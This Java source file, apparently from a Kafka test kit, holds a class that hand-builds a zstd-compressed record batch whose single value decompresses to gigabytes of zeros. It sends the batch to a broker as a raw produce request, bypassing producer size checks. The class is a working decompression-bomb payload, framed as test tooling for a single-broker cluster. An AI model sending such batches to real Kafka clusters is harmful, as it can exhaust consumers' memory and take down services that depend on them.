package dev.parley.testkit.kafka;

import java.io.DataInputStream;
import java.io.DataOutputStream;
import java.io.IOException;
import java.io.OutputStream;
import java.net.Socket;
import java.nio.ByteBuffer;
import java.nio.charset.StandardCharsets;
import java.util.List;
import org.apache.kafka.common.compress.Compression;
import org.apache.kafka.common.message.ProduceRequestData;
import org.apache.kafka.common.protocol.ApiKeys;
import org.apache.kafka.common.protocol.Errors;
import org.apache.kafka.common.record.internal.MemoryRecords;
import org.apache.kafka.common.record.internal.RecordBatch;
import org.apache.kafka.common.requests.AbstractResponse;
import org.apache.kafka.common.requests.ProduceRequest;
import org.apache.kafka.common.requests.ProduceResponse;
import org.apache.kafka.common.requests.RequestHeader;
import org.apache.kafka.common.utils.internals.ByteBufferOutputStream;
import org.apache.kafka.common.utils.internals.ByteUtils;
import org.apache.kafka.common.utils.internals.Crc32C;

/**
 * Writes a compression bomb to a partition: one zstd batch, small on the wire, holding a record whose value
 * decompresses to gigabytes of zeros. No producer would send it (its size checks count the uncompressed record), so
 * the batch is built here byte by byte, streaming the zeros through the compressor, and sent as a raw produce request
 * to the partition's leader (a single-broker cluster in tests). The broker accepts it: with {@code compression.type
 * = producer} it validates compressed batches without materialising their values.
 */
public final class CompressionBomb {

    /** The produce request version sent: the newest one that still names topics (v13 uses topic ids). */
    private static final short PRODUCE_VERSION = 12;
    private static final int BATCH_HEADER_BYTES = 61;
    private static final int CRC_OFFSET = 17;
    private static final int ATTRIBUTES_OFFSET = 21;
    private static final byte ZSTD = 4;
    private static final int CHUNK = 1 << 20;

    private CompressionBomb() {
    }

    /**
     * Sends one batch with one record and waits for the broker's acknowledgement.
     *
     * @param host       the leader's host (the broker)
     * @param port       its port
     * @param valueBytes the value's size once decompressed (at most {@code Integer.MAX_VALUE - 64})
     * @return the record's offset
     */
    public static long send(String host, int port, String topic, int partition, String key, long valueBytes)
            throws IOException {
        ByteBuffer batch = batch(key == null ? null : key.getBytes(StandardCharsets.UTF_8), valueBytes);
        ProduceRequestData data = new ProduceRequestData().setAcks((short) -1).setTimeoutMs(30_000)
                .setTopicData(new ProduceRequestData.TopicProduceDataCollection(List.of(
                        new ProduceRequestData.TopicProduceData().setName(topic).setPartitionData(List.of(
                                new ProduceRequestData.PartitionProduceData().setIndex(partition)
                                        .setRecords(MemoryRecords.readableRecords(batch))))).iterator()));
        ProduceRequest request = new ProduceRequest.Builder(PRODUCE_VERSION, PRODUCE_VERSION, data)
                .build(PRODUCE_VERSION);
        RequestHeader header = new RequestHeader(ApiKeys.PRODUCE, PRODUCE_VERSION, "parley-compression-bomb", 1);
        ByteBuffer bytes = request.serializeWithHeader(header);
        try (Socket socket = new Socket(host, port)) {
            DataOutputStream out = new DataOutputStream(socket.getOutputStream());
            out.writeInt(bytes.remaining());
            out.write(bytes.array(), bytes.arrayOffset() + bytes.position(), bytes.remaining());
            out.flush();
            DataInputStream in = new DataInputStream(socket.getInputStream());
            byte[] answer = new byte[in.readInt()];
            in.readFully(answer);
            ProduceResponse response = (ProduceResponse) AbstractResponse.parseResponse(ByteBuffer.wrap(answer), header);
            var partitionAnswer = response.data().responses().iterator().next().partitionResponses().get(0);
            Errors error = Errors.forCode(partitionAnswer.errorCode());
            if (error != Errors.NONE) {
                throw new IOException("the broker refused the bomb: " + error + " " + partitionAnswer.errorMessage());
            }
            return partitionAnswer.baseOffset();
        }
    }

    /** A v2 record batch, zstd-compressed, with one record of {@code valueBytes} zeros. */
    static ByteBuffer batch(byte[] key, long valueBytes) throws IOException {
        if (valueBytes < 0 || valueBytes > Integer.MAX_VALUE - 64) {
            throw new IllegalArgumentException("valueBytes out of range: " + valueBytes);
        }
        int value = (int) valueBytes;
        ByteBufferOutputStream compressed = new ByteBufferOutputStream(64 * 1024);
        compressed.position(BATCH_HEADER_BYTES);
        try (OutputStream zstd = Compression.zstd().build().wrapForOutput(compressed, RecordBatch.MAGIC_VALUE_V2);
             DataOutputStream record = new DataOutputStream(zstd)) {
            int keyLength = key == null ? -1 : key.length;
            int body = 1 + ByteUtils.sizeOfVarlong(0) + ByteUtils.sizeOfVarint(0)
                    + ByteUtils.sizeOfVarint(keyLength) + Math.max(0, keyLength)
                    + ByteUtils.sizeOfVarint(value) + value + ByteUtils.sizeOfVarint(0);
            ByteUtils.writeVarint(body, record);
            record.writeByte(0);                // attributes
            ByteUtils.writeVarlong(0, record);  // timestamp delta
            ByteUtils.writeVarint(0, record);   // offset delta
            ByteUtils.writeVarint(keyLength, record);
            if (key != null) {
                record.write(key);
            }
            ByteUtils.writeVarint(value, record);
            byte[] zeros = new byte[CHUNK];
            for (int left = value; left > 0; left -= CHUNK) {
                record.write(zeros, 0, Math.min(CHUNK, left));
            }
            ByteUtils.writeVarint(0, record);   // no headers
        }
        ByteBuffer buffer = compressed.buffer();
        buffer.flip();
        long now = System.currentTimeMillis();
        buffer.putLong(0, 0L);                                   // base offset (the broker assigns it)
        buffer.putInt(8, buffer.limit() - 12);                   // batch length
        buffer.putInt(12, -1);                                   // partition leader epoch
        buffer.put(16, RecordBatch.MAGIC_VALUE_V2);
        buffer.putShort(ATTRIBUTES_OFFSET, ZSTD);
        buffer.putInt(23, 0);                                    // last offset delta
        buffer.putLong(27, now);                                 // base timestamp
        buffer.putLong(35, now);                                 // max timestamp
        buffer.putLong(43, -1L);                                 // producer id
        buffer.putShort(51, (short) -1);                         // producer epoch
        buffer.putInt(53, -1);                                   // base sequence
        buffer.putInt(57, 1);                                    // record count
        long crc = Crc32C.compute(buffer, ATTRIBUTES_OFFSET, buffer.limit() - ATTRIBUTES_OFFSET);
        buffer.putInt(CRC_OFFSET, (int) crc);
        return buffer;
    }
}
